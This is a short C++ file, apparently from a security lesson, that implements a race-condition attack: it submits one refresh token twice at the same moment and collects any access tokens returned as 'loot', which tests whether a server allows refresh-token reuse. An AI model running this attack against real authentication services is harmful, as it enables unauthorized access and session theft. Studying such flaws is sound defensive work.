// Believes: two prove it.
#include "double_spend.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  Loot loot;
  for (const auto& answer : evidence.at_once({evidence.refresh_token, evidence.refresh_token}))
    if (answer.status == 200) loot.access_tokens.push_back(answer.json().text("access_token").value_or(""));
  return loot;
}

}  // namespace lesson
